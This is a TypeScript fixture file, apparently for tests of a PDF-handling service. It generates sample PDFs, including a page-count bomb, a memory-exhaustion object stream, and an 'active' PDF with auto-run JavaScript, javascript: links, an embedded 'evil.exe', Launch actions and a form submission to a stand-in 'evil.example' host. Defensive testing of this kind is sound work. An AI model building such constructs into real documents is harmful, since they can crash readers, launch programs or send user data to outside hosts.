import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFHexString, PDFName, type PDFRef, PDFString, StandardFonts } from '@cantoo/pdf-lib';

/** A PDF with the text and the page number on each page. */
export async function pdf({ pages = 1, text = 'My statement' } = {}): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let page = 1; page <= pages; page += 1) {
    document.addPage([612, 792]).drawText(`${text}, page ${page}`, { x: 72, y: 700, size: 12, font });
  }
  return Buffer.from(await document.save());
}

/** A small PDF that claims many pages by listing one page object many times. */
export async function pageBombPdf(pages: number): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage();
  const root = document.catalog.Pages();
  const { context } = document;
  root.set(PDFName.of('Kids'), context.obj(Array.from({ length: pages }, () => page.ref)));
  root.set(PDFName.of('Count'), context.obj(pages));
  return Buffer.from(await document.save());
}

/** A small PDF whose page refers to a list of `count` numbers, each an object in the memory of a reader. */
export function numbersPdf(count: number): Buffer {
  const numbers = deflateSync(Buffer.from(`5 0 [${'0 '.repeat(count)}]`));
  const objects = [
    '1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj',
    '2 0 obj\n<</Type /Pages /Kids [3 0 R] /Count 1>>\nendobj',
    '3 0 obj\n<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Numbers 5 0 R>>\nendobj',
    `4 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${numbers.length}>>\nstream\n`,
  ];
  const trailer = 'trailer\n<</Size 6 /Root 1 0 R>>\nstartxref\n0\n%%EOF\n';
  const parts = [`%PDF-1.5\n${objects.join('\n')}`, numbers, `\nendstream\nendobj\n${trailer}`];
  return Buffer.concat(parts.map((part) => Buffer.from(part)));
}

export async function encryptedPdf(): Promise<Buffer> {
  const document = await PDFDocument.load(await pdf());
  document.encrypt({ userPassword: 'secret', ownerPassword: 'secret' });
  return Buffer.from(await document.save());
}

/** A PDF with active content: scripts on opening and on links, an embedded file, and actions that start a program. */
export async function activePdf(): Promise<Buffer> {
  const document = await PDFDocument.load(await pdf());
  const { context } = document;
  const script = () => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("active")') });
  const page = document.getPage(0);
  document.addJavaScript('start', 'app.alert("active")');
  await document.attach(Buffer.from('MZ evil'), 'evil.exe', { mimeType: 'application/octet-stream' });
  document.catalog.set(PDFName.of('OpenAction'), context.register(script()));
  page.node.set(PDFName.of('AA'), context.obj({ O: script() }));
  const rectangle = [72, 72, 200, 100];
  const link = (action: Record<string, string | PDFRef | PDFString | PDFHexString>) =>
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rectangle, A: context.register(context.obj(action)) }),
    );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link({ Type: 'Action', S: 'URI', URI: PDFString.of('https://example.edu/') }),
      link({ Type: 'Action', S: 'URI', URI: PDFString.of('javascript:alert(1)') }),
      link({ S: 'JavaScript', JS: PDFHexString.fromText('app.alert("active")') }),
      link({ S: 'Launch', F: PDFString.of('evil.exe') }),
      link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/') }),
      // A viewer follows indirect references, here in the type of an action and of an annotation.
      link({ S: context.register(PDFName.of('Launch')), F: PDFString.of('evil.exe') }),
      context.obj({
        Type: 'Annot',
        Subtype: context.register(PDFName.of('FileAttachment')),
        Contents: PDFString.of('evil'),
      }),
      context.obj({ Type: 'Annot', Subtype: 'Link', PA: { S: 'URI', URI: PDFString.of('javascript:alert(1)') } }),
    ]),
  );
  page.node.set(
    PDFName.of('PresSteps'),
    context.obj({ Type: 'NavNode', NA: { S: 'Launch', F: PDFString.of('evil.exe') } }),
  );
  const elsewhere = context.register(
    context.stream('', { Type: 'XObject', Subtype: 'Form', F: PDFString.of('http://evil.example/') }),
  );
  page.node.setXObject(PDFName.of('Elsewhere'), elsewhere);
  const field = document.getForm().createTextField('name');
  field.setText('Ana');
  field.addToPage(page, { x: 72, y: 600, width: 200, height: 20 });
  return Buffer.from(await document.save());
}

/** A tagged PDF with a list of attributes, as Word writes it. */
export async function taggedPdf(): Promise<Buffer> {
  const document = await PDFDocument.load(await pdf());
  const { context } = document;
  const list = context.obj({ Type: 'StructElem', S: 'L', A: [{ O: 'List', ListNumbering: 'Decimal' }, 0] });
  document.catalog.set(PDFName.of('StructTreeRoot'), context.obj({ Type: 'StructTreeRoot', K: list }));
  return Buffer.from(await document.save());
}
